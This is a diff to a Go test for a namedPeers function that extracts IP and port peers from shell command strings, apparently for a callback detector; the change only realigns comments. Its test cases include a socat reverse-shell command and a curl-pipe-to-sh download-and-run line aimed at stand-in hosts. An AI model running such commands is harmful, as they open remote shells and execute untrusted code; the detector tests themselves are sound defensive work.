@@ -18,9 +18,9 @@ func TestNamedPeers(t *testing.T) {
 		{"socat tcp:198.51.100.7:8443 exec:sh", []plantKey{{ip: "198.51.100.7", port: 8443}}},
 		{"curl -s http://192.0.2.4/b | sh", []plantKey{{ip: "192.0.2.4", port: 80}}},
 		{"curl -s https://192.0.2.4:8443/b", []plantKey{{ip: "192.0.2.4", port: 8443}}},
-		{"ping -c 1 192.0.2.4", nil},           // no port: no callback to match
-		{"nc 0.0.0.0 4444", nil},               // unspecified is no peer
-		{"echo 300.1.1.1:80", nil},             // not an address
+		{"ping -c 1 192.0.2.4", nil},            // no port: no callback to match
+		{"nc 0.0.0.0 4444", nil},                // unspecified is no peer
+		{"echo 300.1.1.1:80", nil},              // not an address
 		{"sleep 10; echo version 1.2.3.4", nil}, // a version, no port
 	} {
 		if got := namedPeers(c.cmd); !slices.Equal(got, c.want) {
